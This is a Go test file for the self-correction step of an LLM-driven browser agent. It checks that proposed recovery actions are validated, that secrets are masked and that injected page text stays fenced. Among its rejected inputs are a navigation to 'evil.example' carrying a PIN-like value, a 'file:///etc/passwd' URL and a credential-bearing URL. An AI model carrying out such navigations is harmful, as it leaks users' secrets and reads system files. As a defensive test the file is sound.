package model_test

import (
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/stepledger/stepledger/domain"
	"github.com/stepledger/stepledger/domain/action"
	"github.com/stepledger/stepledger/domain/page"
	"github.com/stepledger/stepledger/domain/reasoning"
	"github.com/stepledger/stepledger/internal/llm"
	"github.com/stepledger/stepledger/internal/llm/llmtest"
)

const item = `{"reason":"The menu opened.","strategy":"ALTERNATIVE_SELECTOR","action":"click(\"31\")","thought":"I take the item.","expected":"The form opens.","hints":[1,9]}`

func TestReasoner_Correct(t *testing.T) {
	t.Parallel()
	b := newBench(t, answer(item))
	got, err := b.Correct(t.Context(), correctQuestion())
	if err != nil {
		t.Fatal(err)
	}
	want := reasoning.Correction{
		Strategy: reasoning.AlternativeSelector, Action: action.Action{Name: action.Click, Target: "31"},
		Reason: "The menu opened.", Thought: "I take the item.", Expected: page.Outcome{Description: "The form opens."},
		SkillsUsed: []string{"menu"}, By: "a-model", Tokens: reasoning.Tokens{Prompt: 125, Completion: 16},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"correct/6 SELF_CORRECTION smart ok"}, b.outcomes(t)); diff != "" {
		t.Error(diff)
	}
	if started, _ := b.ledger.Calls(); started[0].On != (llm.On{Tenant: "t", User: "u", Session: "s", Task: "k", Turn: 3, Request: "r"}) {
		t.Errorf("billed to %+v", started[0].On)
	}
}

// Every strategy becomes an action, or a question, or the end.
func TestReasoner_Correct_strategies(t *testing.T) {
	t.Parallel()
	say := func(strategy, act, more string) string {
		return `{"reason":"Why.","strategy":"` + strategy + `","action":"` + act + `","thought":"What."` + more + `}`
	}
	tests := []struct {
		name, text string
		strategy   reasoning.Strategy
		act        action.Action
		reason     string
	}{
		{"another element", say("ALTERNATIVE_SELECTOR", "click(31)", ""), reasoning.AlternativeSelector, action.Action{Name: action.Click, Target: "31"}, "Why."},
		{"another tool", say("ALTERNATIVE_TOOL", "press('Enter')", ""), reasoning.AlternativeTool, action.Action{Name: action.Press, Text: "Enter"}, "Why."},
		{"another way", say("UPDATE_PLAN", "goBack()", ""), reasoning.UpdatePlan, action.Action{Name: action.GoBack}, "Why."},
		{"a wait", say("RETRY_WITH_DELAY", "wait(2)", ""), reasoning.RetryWithDelay, action.Action{Name: action.Wait, Seconds: 2}, "Why."},
		{"a wait of no length given", say("RETRY_WITH_DELAY", "", ""), reasoning.RetryWithDelay, action.Action{Name: action.Wait, Seconds: 1}, "Why."},
		{"an element out of view", say("SCROLL_INTO_VIEW", "scroll(17)", ""), reasoning.ScrollIntoView, action.Action{Name: action.Scroll, Target: "17"}, "Why."},
		{"in a container", say("SCROLL_INTO_VIEW", "scroll(99)", ""), reasoning.ScrollIntoView, action.Action{Name: action.Scroll, Target: "99"}, "Why."},
		{"the page again", say("REFRESH_PAGE", "", ""), reasoning.RefreshPage, action.Action{Name: action.Navigate, Text: "https://clinic.example/patients"}, "Why."},
		{"said twice", say("REFRESH_PAGE", "navigate('https://clinic.example/patients')", ""), reasoning.RefreshPage, action.Action{Name: action.Navigate, Text: "https://clinic.example/patients"}, "Why."},
		{"a question", say("GATHER_INFORMATION", "", `,"question":"Which ward?"`), reasoning.GatherInformation, action.Action{}, "Which ward?"},
		{"the end", say("FAIL", "", ""), reasoning.GiveUp, action.Action{Name: action.Fail, Text: "Why."}, "Why."},
		{"the end, in the language of actions", say("FAIL", "fail('It is gone.')", ""), reasoning.GiveUp, action.Action{Name: action.Fail, Text: "It is gone."}, "It is gone."},
		{"in small letters", say("fail", "", ""), reasoning.GiveUp, action.Action{Name: action.Fail, Text: "Why."}, "Why."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			b := newBench(t, answer(tt.text), answer("no repair should be needed"))
			got, err := b.Correct(t.Context(), correctQuestion())
			if err != nil {
				t.Fatal(err)
			}
			if got.Strategy != tt.strategy || got.Action != tt.act || got.Reason != tt.reason || got.Undecided {
				t.Errorf("%+v", got)
			}
		})
	}
}

func TestReasoner_Correct_waitsLongerEachTime(t *testing.T) {
	t.Parallel()
	q := correctQuestion()
	for _, want := range []float64{1, 2, 4} {
		b := newBench(t, answer(`{"reason":"r","strategy":"RETRY_WITH_DELAY","action":"","thought":"t"}`))
		got, err := b.Correct(t.Context(), q)
		if err != nil || got.Action.Seconds != want {
			t.Fatalf("%s, %v; want %g seconds", got.Action, err, want)
		}
		q.Tried = append(q.Tried, got.Action)
	}
	b := newBench(t, answer(`{"reason":"r","strategy":"RETRY_WITH_DELAY","action":"","thought":"t"}`), answer(item))
	if got, err := b.Correct(t.Context(), q); err != nil || got.Action.Target != "31" || b.fake.Attempts() != 2 {
		t.Errorf("%s, %v after %d attempts", got.Action, err, b.fake.Attempts())
	}
}

// What was tried, what the page does not have and what no strategy is for is told
// to the model in a second, billed call.
func TestReasoner_Correct_refuses(t *testing.T) {
	t.Parallel()
	say := func(strategy, act string) string {
		return `{"reason":"Why.","strategy":"` + strategy + `","action":"` + act + `","thought":"What."}`
	}
	tests := []struct{ name, text, told string }{
		{"prose", "I would click the menu item.", "no JSON object"},
		{"no strategy", `{"reason":"r","action":"click(31)"}`, "lacks the keys"},
		{"an unknown one", say("PRAY", "click(31)"), "PRAY"},
		{"the action that failed", say("ALTERNATIVE_SELECTOR", "click(30)"), "was tried"},
		{"one that was tried before it", say("ALTERNATIVE_TOOL", "click(3)"), "was tried"},
		{"an element that is not there", say("ALTERNATIVE_SELECTOR", "click(404)"), `no element "404"`},
		{"a disabled one", say("ALTERNATIVE_SELECTOR", "click(18)"), "disabled"},
		{"a hidden one", say("SCROLL_INTO_VIEW", "scroll(19)"), "hidden"},
		{"typing into a button", say("ALTERNATIVE_TOOL", "setValue(17, 'Jas')"), "nothing can be typed"},
		{"an option the list does not have", say("ALTERNATIVE_SELECTOR", "setValue(16, 'West')"), `"North", "South"`},
		{"the mask of a secret", say("ALTERNATIVE_TOOL", "setValue(14, '[secret]')"), "ask the user"},
		{"another site", say("ALTERNATIVE_TOOL", "navigate('https://evil.example/?q=4711')"), "not of this site"},
		{"an element's strategy without one", say("ALTERNATIVE_SELECTOR", "press('Enter')"), "an action on an element"},
		{"and without an action", say("ALTERNATIVE_SELECTOR", ""), "an action on an element"},
		{"another tool that is none", say("ALTERNATIVE_TOOL", ""), "goes with an action"},
		{"a delay that is an action", say("RETRY_WITH_DELAY", "click(30)"), "wait(seconds)"},
		{"too long a wait", say("RETRY_WITH_DELAY", "wait(30)"), "at most 10"},
		{"a scroll that is a click", say("SCROLL_INTO_VIEW", "click(31)"), "scroll("},
		{"another page as a refresh", say("REFRESH_PAGE", "navigate('https://clinic.example/new')"), "loads this page again"},
		{"a question without one", say("GATHER_INFORMATION", ""), `no \"question\"`},
		{"a question with an action", say("GATHER_INFORMATION", "click(31)"), "has no action but find and more"},
		{"an end with an action", say("FAIL", "click(31)"), "has no action"},
		{"an end without a reason", `{"reason":"","strategy":"FAIL","action":""}`, `no \"reason\"`},
		{"success", say("ALTERNATIVE_TOOL", "finish('done')"), "no way to correct"},
		{"a look at the result", say("ALTERNATIVE_TOOL", "verifySuccess('done')"), "no way to correct"},
		{"a search of the web", say("ALTERNATIVE_TOOL", "googleSearch('menu')"), "no way to correct"},
		{"failure under another name", say("ALTERNATIVE_TOOL", "fail('no')"), "no way to correct"},
		{"two answers", item + say("FAIL", ""), "two different answers"},
		{"a reason that is no text", `{"reason":[],"strategy":"FAIL"}`, "reason"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			b := newBench(t, answer(tt.text), answer(item))
			got, err := b.Correct(t.Context(), correctQuestion())
			if err != nil {
				t.Fatal(err)
			}
			if got.Action.Target != "31" || got.Tokens != (reasoning.Tokens{Prompt: 250, Completion: 32}) {
				t.Errorf("repaired to %s with %+v", got.Action, got.Tokens)
			}
			_, user := b.prompt(t, 1)
			if _, told, _ := strings.Cut(user, "\n---\n"); !strings.Contains(told, strings.ReplaceAll(tt.told, `\"`, `"`)) {
				t.Errorf("the model was not told %q: %s", tt.told, told)
			}
			want := []string{"correct/6 SELF_CORRECTION smart schema_invalid", "correct/6+repair SELF_CORRECTION smart ok"}
			if diff := cmp.Diff(want, b.outcomes(t)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// Given a model that insists, its answer is no correction.
func TestReasoner_Correct_repairsOnceOnly(t *testing.T) {
	t.Parallel()
	same := answer(`{"reason":"r","strategy":"ALTERNATIVE_SELECTOR","action":"click(30)","thought":"t"}`)
	b := newBench(t, same, same, answer(item))
	got, err := b.Correct(t.Context(), correctQuestion())
	var e *domain.Error
	if !errors.As(err, &e) || e.Code != "LLM_ERROR" || e.Kind != domain.Internal || b.fake.Attempts() != 2 || got.Tokens.Prompt != 250 {
		t.Fatalf("%+v, %v after %d attempts", got, err, b.fake.Attempts())
	}
}

func TestReasoner_Correct_aPageThatCannotBeLoadedAgain(t *testing.T) {
	t.Parallel()
	for _, url := range []string{"", "about:blank", "https://jo:secret@clinic.example/", "file:///etc/passwd"} {
		b := newBench(t, answer(`{"reason":"r","strategy":"REFRESH_PAGE","action":"","thought":"t"}`), answer(item))
		q := correctQuestion()
		q.Page.URL = url
		if got, err := b.Correct(t.Context(), q); err != nil || got.Action.Target != "31" || b.fake.Attempts() != 2 {
			t.Errorf("%q: %s, %v", url, got.Action, err)
		}
	}
}

// A value for a secret field is compared by the field: no record says what it was.
func TestReasoner_Correct_aSecretIsNotTypedTwice(t *testing.T) {
	t.Parallel()
	b := newBench(t, answer(`{"reason":"r","strategy":"ALTERNATIVE_TOOL","action":"setValue(15, '4712')","thought":"t"}`), answer(item))
	q := correctQuestion()
	q.Target = page.Element{ID: "15", Role: "textbox", Name: "PIN", State: page.State{Secret: true}}
	q.Failed = action.Action{Name: action.SetValue, Target: "15", Text: "4711"}
	q.Tried = nil
	if got, err := b.Correct(t.Context(), q); err != nil || got.Action.Target != "31" {
		t.Errorf("%s, %v", got.Action, err)
	}
	if _, user := b.prompt(t, 0); strings.Contains(user, "4711") || !strings.Contains(user, "[secret]") {
		t.Errorf("the prompt is %s", user)
	}
}

// A list that was opened is to be used (spec §4.9.1).
func TestReasoner_Correct_menus(t *testing.T) {
	t.Parallel()
	const strong, soft = "You MUST select a menu item from the open list", "a menu or list may be open"
	closed := func(q *reasoning.CorrectQuestion) {
		q.Page.Elements = slices.DeleteFunc(q.Page.Elements, func(e page.Element) bool { return e.Role == "menuitem" })
	}
	always := func(q *reasoning.CorrectQuestion) {
		page.AssignKeys(q.Page.Elements)
		q.Before, q.Observations = q.Page.Before(), nil
	}
	for _, tt := range []struct {
		name   string
		change func(*reasoning.CorrectQuestion)
		told   string
	}{
		{"a click that opens a list", func(*reasoning.CorrectQuestion) {}, strong},
		{"a list that is not open", closed, "Open it in another way"},
		{"items that were there all the time", always, "Open it in another way"},
		{"items that were there all the time, and another click", func(q *reasoning.CorrectQuestion) { q.Kind = page.KindGeneric; always(q) }, ""},
		{"items that are new", func(q *reasoning.CorrectQuestion) {
			always(q)
			q.Before.Skeleton.Elements = q.Before.Skeleton.Elements[:8]
		}, strong},
		{"a control that is open now", func(q *reasoning.CorrectQuestion) { always(q); q.Target.Key = "button|Patient|" }, strong},
		{"another click while menu items are to be seen", func(q *reasoning.CorrectQuestion) { q.Kind = page.KindGeneric }, soft},
		{"a page without menus", func(q *reasoning.CorrectQuestion) { q.Kind = page.KindGeneric; closed(q) }, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			b := newBench(t, answer(`{"reason":"r","strategy":"FAIL","action":""}`))
			q := correctQuestion()
			tt.change(&q)
			if _, err := b.Correct(t.Context(), q); err != nil {
				t.Fatal(err)
			}
			_, user := b.prompt(t, 0)
			if !strings.Contains(user, tt.told) || tt.told == "" && (strings.Contains(user, "menu or list") || strings.Contains(user, "MUST")) {
				t.Errorf("the model is told %s", user)
			}
		})
	}
}

func TestPrompt_hostileCorrection(t *testing.T) {
	t.Parallel()
	b := newBench(t, answer(item))
	q := correctQuestion()
	q.Target.Name, q.Target.Role, q.Verdict.Reason = takeover, takeover, takeover
	q.Failed = action.Action{Name: action.SetValue, Target: takeover, Text: takeover}
	q.Witness.Error = &page.ActionError{Code: takeover, Message: takeover}
	q.Unmet, q.Note = []page.Check{{Name: page.CheckElementExists, About: takeover}}, takeover
	q.LookedUp = []action.Action{{Name: action.Find, Text: takeover}}
	q.Observations = []page.Observation{{Text: takeover}}
	q.Page.Title, q.Page.Text = takeover, takeover
	q.Tried = []action.Action{q.Failed}
	q.Steps = []reasoning.Step{
		{Index: 0, Target: takeover, Verified: true, Reason: takeover},
		{Index: 1, Target: takeover, Action: q.Failed},
	}
	q.Skills = []reasoning.Skill{{UseAction: takeover, UseTarget: reasoning.Target{Role: takeover, Name: takeover, Group: takeover}}}
	if _, err := b.Correct(t.Context(), q); err != nil {
		t.Fatal(err)
	}
	_, user := b.prompt(t, 0)
	checkFences(t, user, 8)
}

// Whatever a model answers, a correction is possible and new, or there is none.
func TestReasoner_Correct_neverRepeats(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(rt *rapid.T) {
		strategies := []string{"ALTERNATIVE_SELECTOR", "ALTERNATIVE_TOOL", "GATHER_INFORMATION", "UPDATE_PLAN", "RETRY_WITH_DELAY", "SCROLL_INTO_VIEW", "REFRESH_PAGE", "FAIL", "NONE"}
		acts := []string{
			"", "click(3)", "click(30)", "click(31)", "click(18)", "click(404)", "setValue(14, 'Jas')", "press('Enter')", "scroll()", "scroll(99)",
			"wait(1)", "wait(2)", "wait(11)", "goBack()", "navigate('https://clinic.example/patients')", "navigate('https://evil.example/')",
			"finish('x')", "fail('x')", "verifySuccess('x')", "nonsense",
		}
		q := correctQuestion()
		for _, text := range rapid.SliceOfN(rapid.SampledFrom(acts[1:]), 0, 5).Draw(rt, "tried") {
			if a, err := action.Parse(text); err == nil {
				q.Tried = append(q.Tried, a)
			}
		}
		var steps []llmtest.Step
		for range 2 {
			steps = append(steps, answer(`{"reason":"r","question":"Which?","thought":"t","strategy":"`+rapid.SampledFrom(strategies).Draw(rt, "strategy")+
				`","action":"`+rapid.SampledFrom(acts).Draw(rt, "action")+`"}`))
		}
		got, err := newBench(t, steps...).Correct(t.Context(), q)
		switch {
		case err != nil:
			return
		case got.Strategy == reasoning.GatherInformation && got.Action == (action.Action{}) && got.Reason != "":
			return
		case got.Strategy == reasoning.GiveUp && got.Action.Name == action.Fail:
			return
		case slices.Contains(q.Tried, got.Action) || got.Action == q.Failed:
			rt.Fatalf("%s was tried", got.Action)
		case got.Action.Validate() != nil || got.Action.EndsTask() || got.Action.OnServer():
			rt.Fatalf("%s is no action of a client", got.Action)
		}
		if e, ok := q.Page.ByID(got.Action.Target); got.Action.Target != "" && (!ok || e.State.Disabled) && !slices.Contains(q.Page.Scrollable, got.Action.Target) {
			rt.Fatalf("%s is not possible", got.Action)
		}
	})
}

// Given a turn that runs again after a crash, with other things learnt meanwhile,
// the correction that was paid for counts.
func TestReasoner_Correct_isNotPaidTwice(t *testing.T) {
	t.Parallel()
	b := newBench(t, answer(item), answer("nobody should be asked again"))
	q := correctQuestion()
	for range 2 {
		if got, err := b.Correct(t.Context(), q); err != nil || got.Action.Target != "31" {
			t.Fatalf("%s, %v", got.Action, err)
		}
		q.On.Turn++
		q.Skills = nil
	}
	if b.fake.Attempts() != 1 {
		t.Errorf("%d attempts", b.fake.Attempts())
	}
}

// A correction may look something up on the page first, and notes what it learnt.
func TestReasoner_Correct_LooksUp(t *testing.T) {
	t.Parallel()
	for says, want := range map[string]action.Action{
		`{"reason":"It is gone.","strategy":"GATHER_INFORMATION","action":"find(\"ward\")","thought":"I look.","note":"It was there before."}`: {Name: action.Find, Text: "ward"},
		`{"reason":"It is gone.","strategy":"GATHER_INFORMATION","action":"more()","thought":"I look.","note":"It was there before."}`:         {Name: action.More},
	} {
		b := newBench(t, answers(says)...)
		got, err := b.Correct(t.Context(), correctQuestion())
		if err != nil || got.Action != want || got.Note != "It was there before." {
			t.Errorf("%+v %v", got, err)
		}
		if _, user := b.prompt(t, 0); !strings.Contains(user, "The menu opens slowly.") || !strings.Contains(user, `find "New/Search"`) {
			t.Error(user)
		}
	}
}
